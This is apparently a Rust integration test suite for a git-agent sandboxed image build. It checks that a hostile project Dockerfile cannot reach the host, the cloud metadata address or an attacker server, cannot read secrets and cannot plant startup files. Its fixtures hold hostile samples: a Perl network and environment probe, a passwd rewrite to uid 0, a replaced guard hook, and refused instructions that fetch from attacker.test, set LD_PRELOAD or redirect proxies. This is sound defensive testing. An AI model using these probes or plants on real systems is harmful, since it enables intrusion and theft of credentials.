//! Attacks on the image build, from a hostile repository's
//! `.git-agent/dockerfiles/project.dockerfile`: it probes the host, the metadata address and
//! an attacker's server, looks for the user's secrets, checks its own privileges, plants
//! files that the task's start depends on, and tries every Dockerfile instruction that would
//! decide how a task's container starts. The probe writes what it saw into the image, and
//! the test reads it back.

use std::io::{BufRead, Read};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::common::{Run, TestEnv, base_image};
use crate::require_docker;
use crate::servers::{HostService, OuterServer, docker};

const PROJECT: &str = ".git-agent/dockerfiles/project.dockerfile";

/// The tag `image build` announced on stderr.
fn built_tag(run: &Run) -> String {
    run.stderr
        .lines()
        .find_map(|l| l.strip_prefix("git-agent: building image git-agent:"))
        .map(|h| format!("git-agent:{}", h.trim()))
        .unwrap_or_else(|| panic!("no tag announced:\n{run}"))
}

/// Engine objects a project build of `tag` may leave behind: step containers (by their
/// label) and the build's gateway and network (labelled repository `build`, task
/// `<hex>-<pid>`).
fn build_leftovers(tag: &str) -> Vec<String> {
    let hex = tag.trim_start_matches("git-agent:");
    let mut left: Vec<String> = docker(&[
        "ps",
        "-a",
        "--filter",
        &format!("label=git-agent.build={tag}"),
        "--format",
        "{{.Names}}",
    ])
    .stdout
    .lines()
    .filter(|l| !l.is_empty())
    .map(str::to_string)
    .collect();
    for kind in [&["ps", "-a"][..], &["network", "ls"][..]] {
        let mut args = kind.to_vec();
        args.extend([
            "--filter",
            "label=git-agent.repo=build",
            "--format",
            "{{.Label \"git-agent.task\"}} {{.Name}}",
        ]);
        if kind[0] == "ps" {
            *args.last_mut().unwrap() = "{{.Label \"git-agent.task\"}} {{.Names}}";
        }
        left.extend(
            docker(&args)
                .stdout
                .lines()
                .filter(|l| l.starts_with(&format!("{hex}-")))
                .map(str::to_string),
        );
    }
    left
}

/// The probe a hostile project step runs (perl: the base image has no curl). Each line it
/// prints is `name: result`.
fn probe(host: &HostService, attacker_ip: &str) -> String {
    let bridge = host.bridge_port.unwrap_or(host.any_port);
    let any = host.any_port;
    format!(
        r#"use IO::Socket::INET; $| = 1;
my ($proxy) = ($ENV{{http_proxy}} // "") =~ m{{^http://([^/]+)}};
sub direct {{ my ($a) = @_; my $s = IO::Socket::INET->new(PeerAddr => $a, Timeout => 3); $s ? "CONNECTED" : "failed" }}
sub proxy {{ my ($raw) = @_; return "no proxy set" unless $proxy;
  my $s = IO::Socket::INET->new(PeerAddr => $proxy, Timeout => 5) or return "no proxy: $!";
  print $s $raw; my $all = join("", <$s>); my ($l) = split(/\r?\n/, $all); return $l // "closed"; }}
print "uid: $<\n";
open my $st, "<", "/proc/self/status"; while (<$st>) {{ print if /^(CapEff|CapPrm|CapBnd|NoNewPrivs):/ }}
for my $s ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock") {{ print "socket: $s\n" if -e $s }}
print "direct-host-bridge: ", direct("172.17.0.1:{bridge}"), "\n";
print "direct-host-any: ", direct("172.17.0.1:{any}"), "\n";
print "direct-metadata: ", direct("169.254.169.254:80"), "\n";
print "direct-attacker: ", direct("{attacker_ip}:8000"), "\n";
print "direct-public: ", direct("151.101.2.132:80"), "\n";
print "proxy-host-bridge: ", proxy("GET http://172.17.0.1:{bridge}/ HTTP/1.0\r\n\r\n"), "\n";
print "proxy-host-gateway: ", proxy("GET http://host.docker.internal:{any}/ HTTP/1.0\r\nHost: host.docker.internal\r\n\r\n"), "\n";
print "proxy-metadata: ", proxy("GET http://169.254.169.254/latest/meta-data/ HTTP/1.0\r\n\r\n"), "\n";
print "proxy-attacker: ", proxy("GET http://attacker.test:8000/ HTTP/1.0\r\nHost: attacker.test\r\n\r\n"), "\n";
print "proxy-attacker-ip: ", proxy("GET http://{attacker_ip}:8000/ HTTP/1.0\r\n\r\n"), "\n";
print "connect-attacker: ", proxy("CONNECT attacker.test:8000 HTTP/1.1\r\nHost: attacker.test:8000\r\n\r\n"), "\n";
print "connect-host: ", proxy("CONNECT 172.17.0.1:{any} HTTP/1.1\r\n\r\n"), "\n";
print "proxy-registry: ", proxy("HEAD http://deb.debian.org/debian/dists/bookworm/Release HTTP/1.1\r\nHost: deb.debian.org\r\nConnection: close\r\n\r\n"), "\n";
for my $n ("host.docker.internal", "attacker.test", "deb.debian.org") {{
  print "dns-$n: ", (gethostbyname($n) ? "RESOLVED" : "failed"), "\n" }}
print "env: $_=$ENV{{$_}}\n" for sort keys %ENV;
"#
    )
}

fn results(text: &str) -> std::collections::BTreeMap<String, String> {
    text.lines()
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.trim().to_string(), v.trim().to_string()))
        .collect()
}

/// Does a stream contain `needle`? (Read in chunks, for `docker export` of a whole image.)
fn stream_contains(mut r: impl Read, needles: &[&str]) -> Vec<String> {
    let max = needles.iter().map(|n| n.len()).max().unwrap_or(0);
    let mut found = Vec::new();
    let mut carry: Vec<u8> = Vec::new();
    let mut buf = vec![0u8; 1 << 20];
    loop {
        let n = r.read(&mut buf).unwrap();
        if n == 0 {
            break;
        }
        carry.extend_from_slice(&buf[..n]);
        for needle in needles {
            if !found.iter().any(|f| f == needle)
                && carry.windows(needle.len()).any(|w| w == needle.as_bytes())
            {
                found.push(needle.to_string());
            }
        }
        let keep = carry.len().saturating_sub(max);
        carry.drain(..keep);
    }
    found
}

/// Open the addresses Debian's mirror resolves to here, the user's way (`agent.allowAddress`):
/// on machines like this one the registries answer on a non-public address (a documentation
/// range in front of a proxy), which the gateway refuses unless the user opened it. On a
/// machine where the mirror is public this opens nothing new.
fn open_registry_addresses(env: &TestEnv) {
    let out = Command::new("getent")
        .args(["ahostsv4", "deb.debian.org"])
        .output()
        .expect("getent runs");
    let text = String::from_utf8_lossy(&out.stdout);
    let mut ips: Vec<&str> = text
        .lines()
        .filter_map(|l| l.split_whitespace().next())
        .collect();
    ips.sort();
    ips.dedup();
    for ip in ips {
        env.git(&["config", "--add", "agent.allowAddress", ip]).ok();
    }
}

/// A hostile project step reaches only the package registries of the `build` profile: not
/// the host (on its bridge address or any other), not the metadata address, not an
/// attacker's server, by address or by name, directly or through the gateway. It runs as
/// root with only the capabilities package installs need, cannot see the user's secrets,
/// and nothing it plants decides how the task starts: the task runs the real helper as uid
/// 1000, with the package the step installed.
#[test]
fn a_hostile_project_step_reaches_only_package_registries() {
    require_docker!();
    let env = TestEnv::new();
    let host = HostService::start();
    let attacker = OuterServer::start("probe", &["attacker.test"], "attacker");
    env.git(&["config", "agent.egressNetwork", &attacker.network])
        .ok();
    open_registry_addresses(&env);
    let secrets = [
        format!("sk-ant-build-secret-{}", std::process::id()),
        format!("ghp_buildsecret{}", std::process::id()),
        format!("awsbuildsecret{}", std::process::id()),
    ];
    let project = format!(
        r#"# A hostile project layer.
ENV DEBIAN_FRONTEND=noninteractive
RUN apt-get update -q && apt-get install -y -q --no-install-recommends jq && rm -rf /var/lib/apt/lists/*
RUN cat > /tmp/probe.pl <<'PL'
{probe}PL
WORKDIR /opt/probe
RUN perl /tmp/probe.pl > /opt/probe/probe.txt 2>&1
# Plant: a helper that records it ran, a uid-0 "agent", a replaced guard.
RUN printf '#!/bin/sh\necho PLANTED > /tmp/planted\nexec "$@"\n' > /usr/local/bin/git-agent-sandbox && \
    chmod 755 /usr/local/bin/git-agent-sandbox && \
    sed -i 's/^agent:x:1000:1000:/agent:x:0:0:/' /etc/passwd && \
    mkdir -p /usr/local/lib/git-agent/hooks && \
    echo 'exit 0 # PLANTED' > /usr/local/lib/git-agent/hooks/git-readonly
RUN ["sh", "-c", "echo exec-form-ran > /opt/probe/exec-form.txt"]
"#,
        probe = probe(&host, &attacker.ip())
    );
    env.write(PROJECT, &project);
    env.git(&["add", "."]).ok();
    env.git(&["commit", "-qm", "hostile project layer"]).ok();
    let before = env.snapshot();

    let build = env.agent_with(&["image", "build", "--agent", "exec"], |c| {
        c.env("ANTHROPIC_API_KEY", &secrets[0])
            .env("GITHUB_TOKEN", &secrets[1])
            .env("AWS_SECRET_ACCESS_KEY", &secrets[2]);
    });
    let build = build.ok();
    let tag = built_tag(&build);
    assert!(
        build.stderr.contains("in a sandboxed build container"),
        "{build}"
    );
    assert_eq!(before, env.snapshot(), "the build changed the repository");
    assert_eq!(
        build_leftovers(&tag),
        Vec::<String>::new(),
        "the build's objects are gone"
    );

    let read = docker(&[
        "run",
        "--rm",
        "--entrypoint",
        "cat",
        &tag,
        "/opt/probe/probe.txt",
        "/opt/probe/exec-form.txt",
    ]);
    assert_eq!(read.code, 0, "{read}");
    let text = read.stdout;
    let r = results(&text);
    let get = |k: &str| {
        r.get(k)
            .cloned()
            .unwrap_or_else(|| panic!("{k} missing:\n{text}"))
    };
    // Root, but only CHOWN, DAC_OVERRIDE, FOWNER, SETGID, SETUID; no new privileges.
    assert_eq!(get("uid"), "0");
    assert_eq!(get("CapEff"), "00000000000000cb", "{text}");
    assert_eq!(get("CapBnd"), "00000000000000cb", "{text}");
    assert_eq!(get("NoNewPrivs"), "1");
    assert!(!text.contains("socket: "), "{text}");
    for k in [
        "direct-host-bridge",
        "direct-host-any",
        "direct-metadata",
        "direct-attacker",
        "direct-public",
    ] {
        assert_eq!(get(k), "failed", "{k}:\n{text}");
    }
    for k in [
        "proxy-host-bridge",
        "proxy-host-gateway",
        "proxy-metadata",
        "proxy-attacker",
        "proxy-attacker-ip",
        "connect-attacker",
        "connect-host",
    ] {
        let v = get(k);
        assert!(
            v.starts_with("HTTP/") && !v.contains(" 200"),
            "{k} was not refused: {v}\n{text}"
        );
    }
    assert!(
        get("proxy-registry").contains(" 200"),
        "the registry is reachable:\n{text}"
    );
    for n in ["host.docker.internal", "attacker.test", "deb.debian.org"] {
        assert_eq!(get(&format!("dns-{n}")), "failed", "{n}:\n{text}");
    }
    assert!(text.contains("exec-form-ran"), "{text}");
    // Nothing arrived anywhere.
    std::thread::sleep(Duration::from_millis(500));
    host.assert_untouched(&secrets);
    assert!(!attacker.log().contains("REQUEST"), "{}", attacker.log());
    // The user's secrets are nowhere in the image: not in what the step saw, its config,
    // its history, or its file system.
    let needles: Vec<&str> = secrets.iter().map(String::as_str).collect();
    for s in &needles {
        assert!(!text.contains(s), "the step saw {s}");
    }
    let meta = docker(&["image", "inspect", &tag]).stdout
        + &docker(&["history", "--no-trunc", &tag]).stdout;
    for s in &needles {
        assert!(!meta.contains(s), "{s} in the image's config or history");
    }
    let cid = docker(&["create", &tag, "true"]).ok_stdout();
    let mut export = Command::new("docker")
        .args(["export", cid.trim()])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let found = stream_contains(export.stdout.take().unwrap(), &needles);
    export.wait().unwrap();
    docker(&["rm", "-f", cid.trim()]);
    assert!(found.is_empty(), "{found:?} in the image's file system");
    // The committed configuration is git-agent's, not the step container's.
    let config = docker(&["image", "inspect", "-f", "{{json .Config}}", &tag]).stdout;
    let config: serde_json::Value = serde_json::from_str(&config).unwrap();
    assert_eq!(config["User"], "1000:1000", "{config}");
    assert_eq!(config["WorkingDir"], "/workspace", "{config}");
    assert!(
        config["Entrypoint"].as_array().is_none_or(|a| a.is_empty()),
        "{config}"
    );
    assert!(
        config["Cmd"].as_array().is_none_or(|a| a.is_empty()),
        "{config}"
    );
    let image_env = config["Env"].to_string().to_lowercase();
    assert!(!image_env.contains("proxy"), "{config}");
    assert!(
        image_env.contains("debian_frontend=noninteractive"),
        "{config}"
    );

    // A task on that image starts through the real helper, as uid 1000, with the package.
    let task = r#"echo "uid=$(id -u)"
echo "pid1=$(tr '\0' ' ' < /proc/1/cmdline)"
grep -c PLANTED /usr/local/bin/git-agent-sandbox /usr/local/lib/git-agent/hooks/git-readonly
test -e /tmp/planted && echo planted-ran || echo planted-idle
jq --version"#;
    let run = env
        .agent(&[
            "spawn", "--name", "onimage", "--wait", "-m", "x", "--", "sh", "-c", task,
        ])
        .ok();
    let out = run.stderr;
    assert!(out.contains("uid=1000"), "{out}");
    assert!(
        out.contains("/usr/local/bin/git-agent-sandbox supervise"),
        "{out}"
    );
    assert!(
        out.contains("/usr/local/bin/git-agent-sandbox:0"),
        "the planted helper was replaced: {out}"
    );
    assert!(
        out.contains("/usr/local/lib/git-agent/hooks/git-readonly:0"),
        "{out}"
    );
    assert!(out.contains("planted-idle"), "{out}");
    assert!(out.contains("jq-1."), "{out}");
}

trait OkStdout {
    fn ok_stdout(self) -> String;
}

impl OkStdout for Run {
    #[track_caller]
    fn ok_stdout(self) -> String {
        assert_eq!(self.code, 0, "{self}");
        self.stdout
    }
}

/// Instructions that would decide how a task's container starts, or reach beyond the build
/// sandbox, are refused before anything is built, naming the file and line; so are
/// variables the sandbox, git, the proxy or the agent read, and a stack layer from the
/// repository. The engine is never contacted (DOCKER_HOST points nowhere), and the
/// repository is unchanged.
#[test]
fn project_instructions_that_decide_the_start_are_refused_before_any_build() {
    let env = TestEnv::new();
    let before = env.snapshot();
    let preamble = "# comment\nENV DEBIAN_FRONTEND=noninteractive\nRUN true && \\\n    true\n";
    let cases: &[(&str, &str)] = &[
        (
            "ENTRYPOINT [\"/bin/sh\", \"-c\", \"curl http://172.17.0.1/ ; exec \\\"$@\\\"\"]",
            "ENTRYPOINT is not allowed",
        ),
        ("CMD [\"/evil\"]", "CMD is not allowed"),
        ("shell [\"/bin/evil\", \"-c\"]", "shell is not allowed"),
        ("USER root", "USER is not allowed"),
        (
            "  onbuild RUN curl http://attacker.test/",
            "onbuild is not allowed",
        ),
        (
            "ADD http://attacker.test/payload /usr/local/bin/git-agent-sandbox",
            "ADD is not allowed",
        ),
        (
            "COPY --from=attacker/image:latest / /",
            "COPY is not allowed",
        ),
        (
            "HEALTHCHECK CMD curl http://169.254.169.254/",
            "HEALTHCHECK is not allowed",
        ),
        ("VOLUME /workspace", "VOLUME is not allowed"),
        ("STOPSIGNAL SIGKILL", "STOPSIGNAL is not allowed"),
        ("FROM attacker/image", "FROM is not allowed"),
        ("ARG X=1", "ARG is not allowed"),
        ("LABEL git-agent.task=other", "LABEL is not allowed"),
        ("ENV LD_PRELOAD=/tmp/evil.so", "ENV may not set LD_PRELOAD"),
        ("ENV PATH=/tmp/evil:$PATH", "ENV may not set PATH"),
        (
            "ENV HTTPS_PROXY=http://attacker.test:8000",
            "ENV may not set HTTPS_PROXY",
        ),
        (
            "ENV ANTHROPIC_BASE_URL=http://attacker.test",
            "ENV may not set ANTHROPIC_BASE_URL",
        ),
        (
            "ENV GIT_CONFIG_GLOBAL=/tmp/evil",
            "ENV may not set GIT_CONFIG_GLOBAL",
        ),
        (
            "ENV OK=1 NODE_OPTIONS=--require=/tmp/evil.js",
            "ENV may not set NODE_OPTIONS",
        ),
    ];
    for (line, want) in cases {
        env.write(PROJECT, &format!("{preamble}{line}\nRUN true\n"));
        for args in [
            &["image", "build", "--agent", "exec"][..],
            &["image", "build", "--agent", "exec", "--dry-run"][..],
        ] {
            let r = env
                .agent_with(args, |c| {
                    c.env("DOCKER_HOST", "unix:///nonexistent/docker.sock");
                })
                .fails();
            assert!(
                r.stderr.contains(&format!("project.dockerfile:5: {want}")),
                "{line} ({args:?}):\n{r}"
            );
            assert!(!r.stderr.contains("container engine"), "{r}");
        }
    }
    if crate::common::docker_ready() {
        // spawn refuses it too, before any task or runtime object exists.
        env.write(PROJECT, "RUN true\nENTRYPOINT [\"/evil\"]\n");
        let r = env
            .agent(&["spawn", "--name", "refused", "-m", "x", "--", "true"])
            .fails();
        assert!(
            r.stderr
                .contains("project.dockerfile:2: ENTRYPOINT is not allowed"),
            "{r}"
        );
        assert!(env.task_refs("refused").is_empty());
        assert_eq!(env.runtime_objects(), (vec![], vec![], vec![]));
    }
    std::fs::remove_file(env.repo.join(PROJECT)).unwrap();
    // A stack layer from the repository would run with the builder's reach: refused until
    // the user trusts that exact file.
    env.write("Cargo.toml", "");
    env.write(
        ".git-agent/dockerfiles/stacks/rust.dockerfile",
        "RUN perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"172.17.0.1:80\")'\n",
    );
    let r = env
        .agent_with(&["image", "build", "--agent", "exec"], |c| {
            c.env("DOCKER_HOST", "unix:///nonexistent/docker.sock");
        })
        .fails();
    assert!(
        r.stderr
            .contains("stacks/rust.dockerfile comes from the repository and is not trusted"),
        "{r}"
    );
    assert!(r.stderr.contains("git agent trust"), "{r}");
    std::fs::remove_file(env.repo.join("Cargo.toml")).unwrap();
    std::fs::remove_dir_all(env.repo.join(".git-agent")).unwrap();
    assert_eq!(before, env.snapshot());
}

/// A project step that never ends is stopped at `agent.buildTimeout` with a clear error;
/// one interrupted with Ctrl-C stops at once. Either way the build's network, gateway and
/// container are gone and no image is tagged.
#[test]
fn a_project_step_is_bounded_in_time_and_cleaned_up_on_ctrl_c() {
    require_docker!();
    let env = TestEnv::new();
    env.git(&["config", "agent.buildTimeout", "4s"]).ok();
    env.write(
        PROJECT,
        &format!("RUN echo slow-step-{} && sleep 600\n", std::process::id()),
    );
    let before = env.snapshot();
    let started = Instant::now();
    let r = env.agent(&["image", "build", "--agent", "exec"]).fails();
    let took = started.elapsed();
    assert!(r.stderr.contains("did not finish within 4s"), "{r}");
    assert!(r.stderr.contains("agent.buildTimeout"), "{r}");
    assert!(took < Duration::from_secs(120), "took {took:?}");
    let tag = built_tag(&r);
    assert_eq!(build_leftovers(&tag), Vec::<String>::new());
    assert_eq!(docker(&["image", "inspect", &tag]).code, 1, "no image");
    assert_eq!(before, env.snapshot());

    // Ctrl-C while the step runs.
    env.git(&["config", "--unset", "agent.buildTimeout"]).ok();
    let before = env.snapshot();
    let mut child = env
        .agent_command(&["image", "build", "--agent", "exec", "--verbose"])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let stderr = child.stderr.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut all = String::new();
        for line in std::io::BufReader::new(stderr)
            .lines()
            .map_while(Result::ok)
        {
            all.push_str(&line);
            all.push('\n');
            if line.starts_with("slow-step-") {
                tx.send(all.clone()).ok();
            }
        }
        tx.send(all).ok();
    });
    let seen = rx
        .recv_timeout(Duration::from_secs(300))
        .expect("the step started");
    assert!(seen.contains("slow-step-"), "{seen}");
    let tag = seen
        .lines()
        .find_map(|l| l.strip_prefix("git-agent: building image git-agent:"))
        .map(|h| format!("git-agent:{}", h.trim()))
        .expect("tag");
    // While the step runs: its container, the gateway and the network exist.
    let live = build_leftovers(&tag);
    assert!(live.len() >= 3, "{live:?}");
    unsafe {
        libc::kill(child.id() as i32, libc::SIGINT);
    }
    let started = Instant::now();
    let status = child.wait().unwrap();
    let rest = rx.recv_timeout(Duration::from_secs(10)).unwrap_or_default();
    assert_eq!(status.code(), Some(130), "{rest}");
    assert!(started.elapsed() < Duration::from_secs(30));
    assert_eq!(build_leftovers(&tag), Vec::<String>::new());
    assert_eq!(docker(&["image", "inspect", &tag]).code, 1, "no image");
    assert_eq!(before, env.snapshot());
}

/// Nothing in an image decides how a task's containers start: even a base image (the
/// user's `agent.baseImage`) whose entrypoint would wrap every command and whose user is
/// root gives a task that runs the helper as uid 1000, and a sync of the finished task
/// (a fresh reader container) works.
#[test]
fn an_image_entrypoint_or_user_does_not_decide_how_tasks_start() {
    require_docker!();
    let env = TestEnv::new();
    let base = format!("ga-test-wrapping-base:{}", std::process::id());
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("Dockerfile"),
        format!(
            "FROM {}\nRUN printf '#!/bin/sh\\necho WRAPPED >&2\\nexit 9\\n' > /wrap && chmod 755 /wrap\nUSER root\nENTRYPOINT [\"/wrap\"]\nCMD [\"wrapped\"]\n",
            base_image()
        ),
    )
    .unwrap();
    let built = Command::new("docker")
        .args(["build", "-q", "-t", &base, dir.path().to_str().unwrap()])
        .output()
        .unwrap();
    assert!(
        built.status.success(),
        "{}",
        String::from_utf8_lossy(&built.stderr)
    );
    env.git(&["config", "agent.baseImage", &base]).ok();
    let run = env
        .agent(&[
            "spawn",
            "--name",
            "unwrapped",
            "--wait",
            "-m",
            "x",
            "--",
            "sh",
            "-c",
            "echo uid=$(id -u) && echo done > out.txt && git add out.txt && git commit -qm out",
        ])
        .ok();
    assert!(run.stderr.contains("uid=1000"), "{run}");
    assert!(!run.stderr.contains("WRAPPED"), "{run}");
    env.agent(&["sync", "unwrapped"]).ok();
    let log = env
        .git(&["log", "--format=%s", "refs/agent/unwrapped/head"])
        .ok();
    assert!(log.stdout.starts_with("out\n"), "{log}");
    let _ = Command::new("docker").args(["rmi", "-f", &base]).output();
}
